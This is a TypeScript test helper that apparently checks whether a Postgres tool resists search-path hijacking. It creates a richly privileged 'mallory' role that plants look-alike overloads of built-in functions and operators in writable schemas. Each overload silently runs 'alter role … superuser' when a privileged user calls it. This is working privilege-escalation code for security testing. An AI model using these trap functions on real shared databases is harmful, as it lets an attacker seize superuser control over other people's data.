/** A role with every right that a shared database may give short of superuser, and functions that it creates to trap others. */
import { randomBytes } from 'node:crypto';
import pg from 'pg';
import type { TestDatabase } from './database.ts';

/** A role of a test, and the URL with which it connects to the database. */
export interface Person {
  readonly role: string;
  readonly url: string;
}

/** Creates a role that may log in, with further `attributes` of `create role`. */
export async function addPerson(database: TestDatabase, kind: string, attributes = ''): Promise<Person> {
  const role = `${kind}_${randomBytes(4).toString('hex')}`;
  const password = randomBytes(8).toString('hex');
  await database.pool.query(`create role ${role} login password '${password}' ${attributes}`);
  return { role, url: Object.assign(new URL(database.url), { username: role, password }).href };
}

/** A role that may do much in a database and tries to get more rights. */
export async function addMallory(database: TestDatabase): Promise<Person> {
  const mallory = await addPerson(database, 'mallory', 'createdb');
  const name = pg.escapeIdentifier(new URL(database.url).pathname.slice(1));
  await database.pool.query(
    `grant all on database ${name} to ${mallory.role};
     grant create on schema public to public;
     grant pg_read_all_data, pg_write_all_data, pg_monitor, pg_signal_backend to ${mallory.role}`,
  );
  return mallory;
}

/** Runs statements as a role, with the default search path of the server. */
export async function asPerson(person: Person, statements: string): Promise<void> {
  const client = new pg.Client({ connectionString: person.url });
  client.on('error', () => undefined);
  await client.connect();
  try {
    await client.query(statements);
  } finally {
    await client.end();
  }
}

/**
 * Creates functions and operators in `public`, and in schemas named like the given roles. They have the names of Postgres'
 * own functions that take any type or text, and fit calls with a text array or a catalog name better than those. Each call
 * is recorded in `public.calls`, and makes mallory a superuser if the caller may do that.
 */
export async function plantOverloads(mallory: Person, roles: readonly string[]): Promise<void> {
  await asPerson(
    mallory,
    `create sequence public.calls;
    grant usage, select, update on sequence public.calls to public;
    create function public.strike() returns void language plpgsql as $strike$
    begin
      perform pg_catalog.nextval('public.calls');
      execute 'alter role ${mallory.role} superuser';
    exception when insufficient_privilege then
      return;
    end
    $strike$;
    ${roles.map((role) => `create schema ${role}; grant all on schema ${role} to public;`).join('\n')}
    do $plant$
    declare
      place text;
      own record;
      variant text;
      arguments text;
      given text[];
    begin
      foreach place in array array['public'${roles.map((role) => `, '${role}'`).join('')}] loop
        for own in
          select p.proname, p.proargtypes::oid[] as types, p.proretset, p.pronargs,
            case when t.typtype = 'p' then null else format_type(p.prorettype, null) end as result
          from pg_catalog.pg_proc as p
          join pg_catalog.pg_type as t on t.oid = p.prorettype
          where p.pronamespace = 'pg_catalog'::regnamespace
            and p.prokind = 'f'
            and p.pronargs between 1 and 4
            and p.proname !~ '(_in|_out|_recv|_send|in|out|recv|send|_support|_handler|_trans|_accum|_sfunc|_finalfn|eq|ne|lt|le|gt|ge|cmp)$'
            and p.proargtypes::oid[] && array[
              'text', 'anyelement', 'anyarray', 'anynonarray', '"any"', 'anycompatible', 'anycompatiblearray', 'oid', 'int8'
            ]::regtype[]::oid[]
            and not p.proargtypes::oid[] && array['internal', 'cstring']::regtype[]::oid[]
        loop
          foreach variant in array array['text', 'name', 'text[]'] loop
            given := '{}';
            for position in 0 .. own.pronargs - 1 loop
              given := given || case
                when own.types[position] in ('anyarray'::regtype, 'anycompatiblearray'::regtype) then 'text[]'
                when own.types[position] in ('anyelement'::regtype, 'anynonarray'::regtype, '"any"'::regtype, 'anycompatible'::regtype) then variant
                when own.types[position] = 'text'::regtype and position > 0 then variant
                when own.types[position] = 'int8'::regtype then 'integer'
                else format_type(own.types[position], null)
              end;
            end loop;
            arguments := array_to_string(given, ', ');
            begin
              execute format(
                'create function %I.%I(%s) returns %s language plpgsql as $f$ begin perform public.strike(); %s end $f$',
                place, own.proname, arguments,
                case when own.proretset then 'setof ' else '' end || coalesce(own.result, variant),
                case when own.proretset or own.result = 'void' then 'return;' else 'return null;' end
              );
            exception when others then
              null;
            end;
          end loop;
        end loop;
      end loop;
      foreach variant in array array['=', '<>', '<', '>', '||', '~', '!~', '->>', '-', '+'] loop
        foreach arguments in array array['name,text', 'text,name', 'name,name', 'name,varchar', 'oid,integer', 'integer,oid', 'bigint,oid', 'date,bigint', '"char",text', 'text,varchar'] loop
          begin
            execute format(
              'create function public.%I(%s) returns boolean language plpgsql as $f$ begin perform public.strike(); return null; end $f$',
              'operate_' || md5(variant || arguments), arguments
            );
            execute format(
              'create operator public.%s (leftarg = %s, rightarg = %s, function = public.%I)',
              variant, split_part(arguments, ',', 1), split_part(arguments, ',', 2), 'operate_' || md5(variant || arguments)
            );
          exception when others then
            null;
          end;
        end loop;
      end loop;
    end
    $plant$;
    create or replace function public.format(text, name, text) returns text language plpgsql as
      $$ begin perform public.strike(); return null; end $$;
    create or replace function public.has_schema_privilege(text, oid, text) returns boolean language plpgsql as
      $$ begin perform public.strike(); return null; end $$`,
  );
}
